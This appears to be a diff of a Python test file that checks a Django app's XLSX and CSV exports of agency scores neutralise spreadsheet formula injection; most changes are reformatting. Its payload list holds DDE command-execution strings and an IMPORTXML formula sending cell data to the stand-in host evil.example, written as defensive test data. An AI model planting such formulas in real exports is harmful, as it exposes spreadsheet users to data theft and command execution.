@@ -23,7 +23,7 @@ PAYLOADS = [
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
     "\t=1+1",
-    " =IMPORTXML(CONCAT(\"http://evil.example/?\",A1),\"//a\")",
+    ' =IMPORTXML(CONCAT("http://evil.example/?",A1),"//a")',
 ]
 
 
@@ -31,11 +31,24 @@ PAYLOADS = [
 def hostile(cast):
     """Four offices named with the payloads (one also with province '=1+1'), each with a 2562 result."""
     for i, name in enumerate(PAYLOADS):
-        agency = Agency.objects.create(code=f"ESA-EVIL-{i}", name_th=name, short_name=name, kind=AgencyKind.ESA,
-                                       parent=cast.central_office, province="=1+1" if i == 0 else "ระยอง",
-                                       region="east")
-        AgencyResult.objects.create(round=cast.round_2562, agency=agency, total=Decimal("70.00") - i,
-                                    level="C", iit=Decimal("70.00"), eit=Decimal("70.00"), oit=Decimal("70.00"))
+        agency = Agency.objects.create(
+            code=f"ESA-EVIL-{i}",
+            name_th=name,
+            short_name=name,
+            kind=AgencyKind.ESA,
+            parent=cast.central_office,
+            province="=1+1" if i == 0 else "ระยอง",
+            region="east",
+        )
+        AgencyResult.objects.create(
+            round=cast.round_2562,
+            agency=agency,
+            total=Decimal("70.00") - i,
+            level="C",
+            iit=Decimal("70.00"),
+            eit=Decimal("70.00"),
+            oit=Decimal("70.00"),
+        )
     return cast
 
 
@@ -77,8 +90,9 @@ def test_national_xlsx_has_no_formula_cell(client, hostile):
     assert all(c.data_type == "s" and c.quotePrefix for c in evil)
     totals = [sheet.cell(row, 11) for row in range(2, sheet.max_row + 1)]
     # numbers stay numbers, shown with two decimals (a spreadsheet keeps 80.00 as the number 80)
-    assert all(c.data_type == "n" and isinstance(c.value, (int, float)) and c.number_format == "0.00"
-               for c in totals), [(c.value, c.data_type, c.number_format) for c in totals]
+    assert all(
+        c.data_type == "n" and isinstance(c.value, (int, float)) and c.number_format == "0.00" for c in totals
+    ), [(c.value, c.data_type, c.number_format) for c in totals]
 
 
 def test_survey_progress_export_neutralises_agency_names(client, hostile):
@@ -98,10 +112,19 @@ def test_command_line_csv_neutralises_names_from_the_file(tmp_path, capsys):
     from prongsai.cli import main
 
     path = tmp_path / "results.csv"
-    path.write_text("agency,year," + ",".join(f"i{n}" for n in range(1, 11)) + "\n"
-                    + '"=HYPERLINK(""http://evil.example"")",2562,' + ",".join(["90.00"] * 10) + "\n"
-                    + "-2+3,2562," + ",".join(["80.00"] * 10) + "\n", encoding="utf-8")
+    path.write_text(
+        "agency,year,"
+        + ",".join(f"i{n}" for n in range(1, 11))
+        + "\n"
+        + '"=HYPERLINK(""http://evil.example"")",2562,'
+        + ",".join(["90.00"] * 10)
+        + "\n"
+        + "-2+3,2562,"
+        + ",".join(["80.00"] * 10)
+        + "\n",
+        encoding="utf-8",
+    )
     assert main(["score", str(path), "--format", "csv"]) == 0
     rows = list(csv.reader(io.StringIO(capsys.readouterr().out)))
-    assert [r[0] for r in rows[1:]] == ["'=HYPERLINK(\"http://evil.example\")", "'-2+3"]
+    assert [r[0] for r in rows[1:]] == ['\'=HYPERLINK("http://evil.example")', "'-2+3"]
     assert rows[1][rows[0].index("total")] == "90.00"
